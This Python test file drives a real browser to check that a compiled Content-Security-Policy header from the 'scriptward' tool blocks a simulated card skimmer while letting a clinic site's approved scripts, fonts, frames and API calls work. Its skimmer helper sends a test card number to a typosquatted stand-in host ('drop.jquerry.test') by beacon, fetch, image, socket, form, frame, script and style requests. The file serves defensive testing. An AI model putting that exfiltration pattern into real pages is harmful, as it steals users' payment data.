"""The compiled header in a real browser: it stops a skimmer's sends and nothing approved."""

from datetime import date

import pytest
from playwright.sync_api import sync_playwright

from scriptward.policy.compilation import compiled
from scriptward.policy.learn import learned
from scriptward.vocabulary.words import Channel, ScriptKind
from tests.policy.compile import clinic_site
from tests.policy.visits import flow, inline, script, visit

pytestmark = pytest.mark.browser
TODAY = date(2026, 11, 25)
EVIL = "jquerry.test"
WAYS = ["/beacon", "/fetch", "/image", "/socket"]
MORE_WAYS = ["/form", "/frame", "/script.js", "/style.css"]
WATCH = """
window.violations = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
});
"""


def observed():
    """What a scan of the site's front page says of it."""
    app = script("https://www.clinic.test/app.js", entity="first party")
    chat = script(sha256=clinic_site.sha256(clinic_site.CHAT))
    made = script("", kind=ScriptKind.EVAL, sha256="77" * 32, loaded_by=chat.id, entity="Acme")
    worker = script(
        "blob:https://www.clinic.test",
        kind=ScriptKind.WORKER,
        sha256=clinic_site.sha256(clinic_site.WORKER_TEXT),
        loaded_by=chat.id,
        entity="Acme",
    )
    handler = inline(clinic_site.sha256(clinic_site.HANDLER), kind=ScriptKind.EVENT_HANDLER)
    return visit(
        scripts=(app, chat, made, worker, handler, inline(clinic_site.sha256(clinic_site.INLINE))),
        flows=(
            flow("https://www.clinic.test/", channel=Channel.NAVIGATION),
            flow("https://fonts.typo.test/a.css", channel=Channel.CSS, entity="Typo"),
            flow("https://fonts.typo.test/a.woff2", channel=Channel.FONT, entity="Typo"),
            flow("https://img.acme.test/logo.gif", channel=Channel.IMAGE),
            flow("https://maps.nook.test/embed", channel=Channel.FRAME, entity="Nook"),
            flow("https://api.acme.test/fetch", by=chat),
            flow("https://api.acme.test/beacon", by=chat, channel=Channel.BEACON),
            flow("https://api.acme.test/image", by=chat, channel=Channel.IMAGE),
            flow("wss://api.acme.test/socket", by=chat, channel=Channel.WEBSOCKET),
        ),
    )


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with clinic_site.served(tmp_path_factory.mktemp("site")) as started:
        yield started


@pytest.fixture(scope="module")
def browser(browser_path, site):
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(
            executable_path=str(browser_path),
            chromium_sandbox=False,
            args=[f"--host-resolver-rules=MAP *.test 127.0.0.1:{site.port}"],
        )
        yield started
        started.close()


@pytest.fixture
def page(browser, site):
    site.arrived.clear()
    context = browser.new_context(ignore_https_errors=True)
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


def header(*, narrowed):
    run = [observed()]
    policy = learned(run, today=TODAY).policy
    return compiled(policy, run if narrowed else None, today=TODAY).value


def used(page, path):
    """Visit a page and use all it has; give what did not work."""
    page.goto(f"https://www.clinic.test{path}")
    page.evaluate("window.chatDone")
    page.click("button")
    names = ["chatRan", "inlineRan", "handlerRan", "evalRan", "workerRan"]
    return [name for name in names if not page.evaluate(f"window.{name} === true")]


def skimmed(page):
    """Send a card number away by every way, as a script that was approved before might."""
    page.evaluate("Promise.all([reach('drop.jquerry.test', '4111')])")
    page.evaluate("reachMore('drop.jquerry.test', '4111')")


def violated(page):
    return sorted({one.split(" ")[0] for one in page.evaluate("window.violations")})


def arrived_within(page, site, count):
    """Paths at the skimmer's host, once there are so many."""
    for _ in range(200):
        if len(site.hosts(EVIL)) >= count:
            break
        page.wait_for_timeout(50)
    return site.hosts(EVIL)


def test_without_the_header_everything_gets_out(page, site):
    site.csp = ""

    lost = used(page, "/")
    skimmed(page)

    assert lost == []
    assert arrived_within(page, site, 8) == sorted(WAYS + MORE_WAYS)


@pytest.mark.parametrize("narrowed", [False, True], ids=["policy", "runs"])
@pytest.mark.parametrize("path", ["/", "/a/page/no/journey/visited"])
def test_nothing_approved_is_blocked(page, site, path, narrowed):
    site.csp = header(narrowed=narrowed)

    lost = used(page, path)

    assert lost == []
    assert page.evaluate("window.violations") == []
    assert site.hosts("api.acme.test") == WAYS
    assert site.hosts("typo.test") == ["/a.css", "/a.woff2"]
    assert site.hosts("nook.test") == ["/embed"]
    assert site.hosts("img.acme.test") == ["/logo.gif"]


@pytest.mark.parametrize("path", ["/?skim", "/a/page/no/journey/visited?skim"])
def test_an_added_skimmer_does_not_run(page, site, path):
    site.csp = header(narrowed=False)

    lost = used(page, path)

    assert lost == []
    assert page.evaluate("window.skimmerRan") is None
    assert violated(page) == ["script-src-elem"]
    assert site.hosts(EVIL) == []


@pytest.mark.parametrize("path", ["/", "/a/page/no/journey/visited"])
def test_an_approved_script_that_turns_bad_reaches_no_new_host(page, site, path):
    site.csp = header(narrowed=False)
    used(page, path)

    skimmed(page)

    page.wait_for_function("window.violations.some((one) => one.startsWith('form-action'))")
    assert site.hosts(EVIL) == []
    assert violated(page) == [
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "script-src-elem",
        "style-src-elem",
    ]


def test_an_injected_inline_script_does_not_run(page, site):
    site.csp = header(narrowed=False)
    used(page, "/")

    page.evaluate(
        "{ const s = document.createElement('script'); s.textContent = 'window.bad = true';"
        " document.body.append(s); }"
    )

    assert page.evaluate("window.bad") is None
    assert violated(page) == ["script-src-elem"]
